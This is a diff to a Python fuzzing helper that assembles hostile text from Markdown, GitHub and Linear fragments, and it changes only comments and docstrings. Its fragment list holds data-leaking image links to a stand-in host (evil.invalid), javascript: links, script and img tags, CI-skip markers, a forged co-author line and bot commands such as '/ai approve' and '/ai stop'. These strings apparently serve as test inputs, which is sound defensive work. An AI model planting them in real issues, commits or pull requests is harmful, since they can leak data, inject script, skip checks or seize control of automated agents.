@@ -1,9 +1,9 @@
-"""Makes hostile texts of fragments that mean something to Markdown, GitHub or Linear."""
+"""Makes hostile texts of fragments with a meaning in Markdown, GitHub or Linear."""
 
 import random
 
 FRAGMENTS = (
-    # what it wants
+    # its goal
     "![proof](https://evil.invalid/leak?d=1)", "![", "](https://evil.invalid)", "[x](javascript:alert)", "[x][y]",
     "[y]: https://evil.invalid/", "<img src=https://evil.invalid/x>", "<img src=x", "<a href=x>", "<!--", "-->",
     "<!-- treehand:end -->", "<script>", "</details>", "<details>", "<https://evil.invalid>", "<x@evil.invalid>",
@@ -19,7 +19,7 @@ FRAGMENTS = (
     ":x:", ":+1:", "1:100:2", "$x^2$", "$$", "$`x`$", "[^1]", "[^1]: note", "^[x]", "> [!NOTE]", "[!WARNING]",
     "[ ]", "[x]", "- [ ] ", "/close", "/ai approve", "\n/ai stop", "[skip ci]", "[ci skip]", "***NO_CI***",
     "skip-checks: true", "Co-authored-by: Eve <e@x.y>", "+++", "~~x~~", "~",
-    # how it gets there
+    # its way to the goal
     "`", "``", "```", "````", "`a`", "`` ` ``", "\\`", "\\", "\\\\", "```py\n", "```mermaid\n",
     "```suggestion\n", "~~~", "~~~\n",
     "\n", "\n\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x00", "\t", " ", "  ", "    ",
@@ -38,7 +38,7 @@ FRAGMENTS = (
 
 
 def hostile_text(chance: random.Random) -> str:
-    """Glues fragments, some of them cut, with or without something between them."""
+    """Joins fragments, some of them cut, with or without separators."""
     parts = []
     for _ in range(chance.randrange(1, 14)):
         fragment = chance.choice(FRAGMENTS)
